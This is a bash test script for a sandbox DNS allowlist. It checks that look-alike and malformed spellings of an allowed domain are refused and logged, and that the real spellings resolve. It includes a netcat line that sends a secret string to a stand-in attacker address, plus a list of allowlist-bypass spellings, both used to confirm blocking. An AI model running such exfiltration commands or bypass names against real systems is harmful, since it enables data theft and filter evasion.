#!/bin/bash
# 10-name-tricks: with only "a.test" allowed, names that look like it but
# are not it get NXDOMAIN (or FORMERR when they are no host name at all),
# never reach the upstream server and make no binding; the spellings that
# are a.test (case, one trailing dot) resolve, over UDP and TCP.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-name-tricks
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["a.test"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
gw=$(tb_sandbox_field a gateway)
dig_a() { tb_in a dig +time=2 +tries=1 @"$gw" "$@" 2>&1; }
status() { dig_a "$@" | sed -n 's/.*status: \([A-Z]*\),.*/\1/p'; }
: > "$TB_DIR/dns.log"

# Look-alikes: host names that are not a.test get NXDOMAIN.
for n in evil-a.test a.test.evil.test xa.test x.a.test atest test \
    a.test.test a-test xn--a-test.test '*.a.test'; do
	tb_assert_eq "$(status "$n")" NXDOMAIN "NXDOMAIN for $n"
done
tb_assert_eq "$(status +tcp a.test.evil.test)" NXDOMAIN "NXDOMAIN over TCP too"
# Names that are no host names at all are malformed queries (FORMERR):
# dig reads "\." as a dot inside one label ("a.test" as a single label),
# "\000" as a NUL byte, "\032" as a space, "\208\176" as the UTF-8 of a
# Cyrillic a.
for n in 'a\.test' 'a.test\000.evil.test' 'a.test\000' 'a\032.test' \
    '\208\176.test'; do
	tb_assert_eq "$(status "$n")" FORMERR "FORMERR for '$n'"
done

# The spellings of a.test itself.
for n in a.test a.test. A.TEST A.TeSt.; do
	tb_assert_eq "$(dig_a +short "$n")" "$TB_ADDR_HTTPS" "$n resolves"
done
tb_assert_eq "$(dig_a +short +tcp A.TEST.)" "$TB_ADDR_HTTPS" "A.TEST. over TCP"

# No binding came from any look-alike: the attacker's address (where
# *.evil.test points upstream) is refused at the SYN.
t0=$(tb_time_ms)
echo secret-name-tricks | tb_in a nc -w 2 "$TB_ADDR_ATK" 443 >/dev/null 2>&1
tb_check "the attacker's address is refused" [ $? != 0 ]
tb_assert_le $(( $(tb_time_ms) - t0 )) 1000 "at once"

sleep 0.3
# The five spellings are one name: the upstream was asked once, the
# resolver's cache answered the other four, and no look-alike ever left.
tb_assert_eq "$(tb_upstream_queries)" 1 "the upstream was asked once..."
tb_assert_eq "$(tb_upstream_queries '^a\.test$')" 1 "...for a.test exactly"
tb_assert_eq "$(tb_status dns.cache_hits)" 4 \
    "the other four spellings came from the cache"
tb_assert_eq "$(tb_attacker_packet_count)" 0 "the attacker received nothing"

tb_wait_rows "SELECT count(*) FROM dns_queries" 21 >/dev/null
tb_assert_eq "$(tb_sql "SELECT qname, rcode, verdict, reason FROM dns_queries
    WHERE rcode = 'NXDOMAIN' ORDER BY id")" \
"evil-a.test|NXDOMAIN|deny|not_allowlisted
a.test.evil.test|NXDOMAIN|deny|not_allowlisted
xa.test|NXDOMAIN|deny|not_allowlisted
x.a.test|NXDOMAIN|deny|not_allowlisted
atest|NXDOMAIN|deny|not_allowlisted
test|NXDOMAIN|deny|not_allowlisted
a.test.test|NXDOMAIN|deny|not_allowlisted
a-test|NXDOMAIN|deny|not_allowlisted
xn--a-test.test|NXDOMAIN|deny|not_allowlisted
*.a.test|NXDOMAIN|deny|not_allowlisted
a.test.evil.test|NXDOMAIN|deny|not_allowlisted" "one deny row per look-alike"
tb_assert_eq "$(tb_sql "SELECT count(*) || ' ' || ifnull(group_concat(DISTINCT
    ifnull(nullif(qname, ''), '-') || ':' || verdict || ':' || reason), '') FROM dns_queries
    WHERE rcode = 'FORMERR'")" "5 -:deny:malformed" \
    "one malformed row per non-name, without a name"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries WHERE verdict = 'deny'")" 16 \
    "sixteen denied queries in all"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM dns_queries WHERE verdict != 'deny'
    AND NOT (lower(rtrim(qname, '.')) = 'a.test' AND rcode = 'NOERROR'
    AND reason = 'allowed_domain' AND answers = '$TB_ADDR_HTTPS')")" 0 \
    "every allowed row is a spelling of a.test with its one address"
tb_assert_eq "$(tb_sql "SELECT verdict, reason, ifnull(name, '-') FROM flows")" \
    "deny|no_dns_binding|-" "the attacker flow's row"
tb_done
